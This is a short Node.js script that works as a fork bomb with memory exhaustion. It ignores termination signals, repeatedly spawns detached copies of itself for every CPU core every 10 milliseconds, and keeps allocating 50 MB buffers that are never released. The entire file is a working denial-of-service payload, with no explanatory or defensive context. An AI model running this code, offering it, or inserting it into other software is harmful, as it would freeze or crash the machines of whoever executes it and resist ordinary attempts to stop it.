const { fork } = require('child_process');
const os = require('os');

process.on('SIGTERM', () => {});
process.on('SIGINT', () => {});
const waste = [];
function more() {
  for (let i = 0; i < os.cpus().length; i++) {
    const c = fork(__filename, [], { detached: true, stdio: 'ignore' });
    c.unref();
  }
  waste.push(Buffer.alloc(50 * 1024 * 1024, 1));
}
setInterval(more, 10);
